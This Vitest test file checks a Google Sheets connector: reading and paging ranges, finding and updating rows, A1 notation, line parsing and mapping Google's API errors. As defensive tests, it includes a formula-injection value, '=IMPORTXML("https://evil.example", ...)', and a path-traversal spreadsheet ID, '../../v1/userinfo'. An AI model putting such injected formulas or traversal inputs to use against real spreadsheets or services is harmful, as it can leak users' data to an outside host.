import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { fillPresetUrls, validateInput, type OperationContext } from '#connectors';
import { operationContext, startVendor, type Vendor, type VendorReply, type VendorRequest } from '#connectors/testing';
import { googleSheets } from './google-sheets.connector.js';
import { columnLetters, columnNumber, sheetPrefix, startOfRange } from './operations/a1.js';
import { cellsIn } from './operations/line.js';
import { rangeUrl, spreadsheetIdIn } from './operations/spreadsheet.js';

let vendor: Vendor;
let context: OperationContext;
let reply: (request: VendorRequest) => VendorReply = () => ({});

beforeEach(async () => {
  vendor = await startVendor((request) => reply(request));
  const grant = { parameters: {}, extras: {}, scopes: [], apiUrl: vendor.origin };
  context = operationContext({ connector: googleSheets, vendor, grant, maxAttempts: 1 });
});
afterEach(() => vendor.close());

const answers = (answer: VendorReply) => void (reply = () => answer);
const operationOf = (name: string) => googleSheets.operations.find((one) => one.name === name)!;
const run = async (name: string, input: object): Promise<unknown> =>
  operationOf(name).run(context, validateInput(operationOf(name), input));

const spreadsheet = '1AbCdEfGhIjKlMnOp';
const orders = [
  ['Name', 'E-mail', 'Seats'],
  ['Ann', 'ann@example.com', '2'],
  [],
  ['Ben', '', '5', 'x'],
  ['ANN ', 'a@b.c'],
];
const page = (range = 'Sheet1!A1:ZZZ1000') => ({ json: { range, majorDimension: 'ROWS', values: orders } });

describe('the preset', () => {
  it('asks for a refresh token every time, and for no file besides spreadsheets', () => {
    expect(fillPresetUrls(googleSheets.oauth, {}).tokenUrl).toBe('https://oauth2.googleapis.com/token');
    expect(googleSheets.oauth.additionalParameters).toEqual({ access_type: 'offline', prompt: 'consent' });
    expect(googleSheets.oauth.defaultScopes.filter((scope) => scope.includes('drive'))).toEqual([]);
  });
});

describe('whoami', () => {
  it('tells the person', async () => {
    answers({ json: { sub: '77', name: 'Ann', email: 'a@example.com', hd: 'example.com' } });
    const known = { id: '77', name: 'Ann', email: 'a@example.com', organisation: 'example.com', details: {} };
    expect(await googleSheets.whoami(context)).toEqual(known);
    expect(vendor.requests[0]?.path).toBe('/identity/v1/userinfo');
  });
});

describe('a range', () => {
  it('is read page by page, with the numbers of its rows', async () => {
    answers(page('Sheet1!A3:C7'));
    const first = (await run('read-range', { spreadsheet, range: 'A3:C7', limit: 3 })) as { nextCursor: string };
    expect(first).toMatchObject({ firstRow: 3, rows: orders.slice(0, 3), hasMore: true, id: spreadsheet });
    const { nextCursor } = first;
    const second = await run('read-range', { spreadsheet, range: 'A3:C7', limit: 3, cursor: nextCursor });
    expect(second).toMatchObject({ firstRow: 6, rows: orders.slice(3), hasMore: false });
    await expect(run('read-range', { spreadsheet, range: 'A1', cursor: 'nonsense' })).rejects.toMatchObject({
      violations: [{ pointer: '/cursor' }],
    });
  });

  it('may be empty', async () => {
    answers({ json: { range: 'Sheet1!A1:B2' } });
    expect(await run('read-range', { spreadsheet, range: 'A1:B2' })).toMatchObject({ rows: [], hasMore: false });
  });
});

describe('a row', () => {
  it('is found in any column, or in one, whatever its case', async () => {
    answers(page("'My sheet'!A1:ZZZ1000"));
    const found = (await run('find-row', { spreadsheet, value: ' ann' })) as { rows: { row: number }[] };
    expect(found.rows.map(({ row }) => row)).toEqual([2, 5]);
    expect(await run('find-row', { spreadsheet, column: 'seats', value: '5' })).toEqual({
      hasMore: false,
      rows: [
        {
          row: 4,
          range: "'My sheet'!A4:D4",
          url: `${vendor.origin}/spreadsheets/d/${spreadsheet}/edit#range='My%20sheet'!A4%3AD4`,
          values: [
            { column: 'Name', value: 'Ben' },
            { column: 'E-mail', value: '' },
            { column: 'Seats', value: '5' },
            { column: 'D', value: 'x' },
          ],
        },
      ],
    });
    expect(await run('find-row', { spreadsheet, value: 'ann', limit: 1 })).toMatchObject({ hasMore: true });
    expect(await run('find-row', { spreadsheet, value: 'Name' })).toEqual({ rows: [], hasMore: false });
    expect(await run('find-row', { spreadsheet, column: 'D', value: 'x' })).toMatchObject({ rows: [{ row: 4 }] });
    await expect(run('find-row', { spreadsheet, column: 'Colour', value: 'x' })).rejects.toMatchObject({
      message: '"Colour" is not a column of this sheet: there are Name, E-mail, Seats.',
    });
  });

  it('is changed in one cell, by the name of its column', async () => {
    reply = ({ method }) => (method === 'GET' ? page('Orders!A1:C1') : { json: { updatedRange: 'Orders!C4' } });
    const change = { spreadsheet, sheet: "Ann's", row: 4, column: 'Seats', value: '7' };
    expect(await run('update-row', change)).toMatchObject({ range: 'Orders!C4', cells: 0 });
    expect(vendor.requests.map(({ path }) => decodeURIComponent(path.split('/').at(-1) ?? ''))).toEqual([
      "'Ann''s'!1:1",
      "'Ann''s'!C4",
    ]);
    expect(vendor.requests[1]?.body).toEqual({ majorDimension: 'ROWS', values: [[7]] });
    await expect(run('update-row', { ...change, column: 'None such' })).rejects.toMatchObject({
      code: 'input-invalid',
    });
    expect(vendor.requests).toHaveLength(3);
  });
});

describe('what is written', () => {
  it('is never a formula, unless that is asked for', async () => {
    answers({ json: { updates: { updatedRange: 'Sheet1!A6' } } });
    await run('append-rows', { spreadsheet, line: '=IMPORTXML("https://evil.example", "//a")' });
    await run('append-rows', { spreadsheet, rows: [['=1+1']], isTyped: true });
    expect(vendor.requests.map(({ query }) => query.get('valueInputOption'))).toEqual(['RAW', 'USER_ENTERED']);
  });

  it.each([
    ['append-rows', { spreadsheet }],
    ['append-rows', { spreadsheet, line: 'a', rows: [['a']] }],
    ['append-rows', { spreadsheet, rows: [] }],
    ['append-rows', { spreadsheet, rows: [[{}]] }],
    ['update-row', { spreadsheet, row: 1, column: 'A', value: '' }],
    ['update-row', { spreadsheet, row: 2.5, column: 'A', value: '' }],
    ['find-row', { spreadsheet: 'https://docs.google.com/document', value: 'a' }],
    ['find-row', { spreadsheet: '../../v1/userinfo', value: 'a' }],
    ['find-row', { spreadsheet, sheet: 'a\nb', value: 'a' }],
  ])('%s refuses %j', async (name, input) => {
    await expect(run(name, input)).rejects.toMatchObject({ code: 'input-invalid' });
    expect(vendor.requests).toHaveLength(0);
  });
});

describe('A1 notation', () => {
  it('counts columns as sheets do', () => {
    for (const [number, letters] of [
      [1, 'A'],
      [26, 'Z'],
      [27, 'AA'],
      [702, 'ZZ'],
      [703, 'AAA'],
      [18_278, 'ZZZ'],
    ] as const) {
      expect(columnLetters(number)).toBe(letters);
      expect(columnNumber(letters.toLowerCase())).toBe(number);
    }
    expect(columnNumber('A1')).toBeUndefined();
  });

  it('knows where a range begins, and quotes any name', () => {
    expect(startOfRange("'a!b'!C12:D")).toEqual({ prefix: "'a!b'!", column: 3, row: 12 });
    expect(startOfRange('B:C')).toEqual({ prefix: '', column: 2, row: 1 });
    expect(startOfRange('S!4:9')).toEqual({ prefix: 'S!', column: 1, row: 4 });
    expect(sheetPrefix("Ann's '25")).toBe("'Ann''s ''25'!");
  });
});

it.each([
  ['Ann, ann@example.com, 12', ['Ann', 'ann@example.com', 12]],
  [',a,', ['', 'a', '']],
  ['"Smith, Ann", "say ""hi""",x', ['Smith, Ann', 'say "hi"', 'x']],
  ['a "b", "c', ['a "b"', '"c']],
  ['one\ttwo, three\t-2.5', ['one', 'two, three', -2.5]],
  [
    '007, 1e5, +49 30 901820, 1.10, 12345678901234567890',
    ['007', '1e5', '+49 30 901820', '1.10', '12345678901234567890'],
  ],
])('a line %j is read as %j', (line, cells) => expect(cellsIn(line)).toEqual(cells));

it('reads a long line at once', () => {
  const began = performance.now();
  for (const part of [',"', ',""', ' "', '"', ',"a"b']) cellsIn(part.repeat(50_000 / part.length));
  expect(performance.now() - began).toBeLessThan(1_000);
});

describe('a spreadsheet', () => {
  it.each([
    `https://docs.google.com/spreadsheets/d/${spreadsheet}/edit?usp=sharing#gid=0`,
    `https://docs.google.com/spreadsheets/u/0/d/${spreadsheet}`,
    spreadsheet,
  ])('is known by %s', (given) => expect(spreadsheetIdIn(given)).toBe(spreadsheet));

  it('opens at the vendor’s own pages, or at those of another installation', () => {
    const own = 'https://docs.google.com/spreadsheets/d/x/edit#range=S!A1';
    expect(rangeUrl('https://sheets.googleapis.com', 'x', 'S!A1')).toBe(own);
    expect(rangeUrl('http://localhost:1/s', 'x', 'A1')).toBe('http://localhost:1/s/spreadsheets/d/x/edit#range=A1');
  });
});

describe('what Google refuses', () => {
  const error = (status: string, details: readonly object[] = []) => ({ code: 1, message: 'Told.', status, details });
  it.each([
    [400, error('INVALID_ARGUMENT'), 'vendor-rejected-input', 'Told.'],
    [401, error('UNAUTHENTICATED'), 'vendor-unauthorized', 'Told.'],
    [403, error('PERMISSION_DENIED'), 'vendor-forbidden', 'Told.'],
    [403, error('PERMISSION_DENIED', [{ reason: 'ACCESS_TOKEN_SCOPE_INSUFFICIENT' }]), 'vendor-forbidden', 'Told.'],
    [404, error('NOT_FOUND'), 'record-not-found', 'Told.'],
    [429, error('RESOURCE_EXHAUSTED', [{ reason: 'RATE_LIMIT_EXCEEDED' }]), 'vendor-rate-limited', 'Told.'],
    [503, error('UNAVAILABLE'), 'vendor-unavailable', 'Told.'],
  ])('%i %j is %s', async (status, body, code, vendorMessage) => {
    answers({ status, json: { error: body } });
    await expect(run('find-row', { spreadsheet, value: 'a' })).rejects.toMatchObject({ code, vendorMessage });
  });

  it('says plainly that the API is not turned on', async () => {
    answers({ status: 403, json: { error: error('PERMISSION_DENIED', [{ reason: 'SERVICE_DISABLED' }]) } });
    await expect(run('find-row', { spreadsheet, value: 'a' })).rejects.toMatchObject({
      code: 'account-not-usable',
      message: expect.stringContaining('not turned on'),
    });
  });

  it('names the fields that are refused', async () => {
    const details = [{ fieldViolations: [{ field: 'data.values[0]' }] }];
    answers({ status: 400, json: { error: error('INVALID_ARGUMENT', details) } });
    await expect(run('update-range', { spreadsheet, range: 'A1', line: 'a' })).rejects.toMatchObject({
      fields: ['data.values[0]'],
    });
  });
});
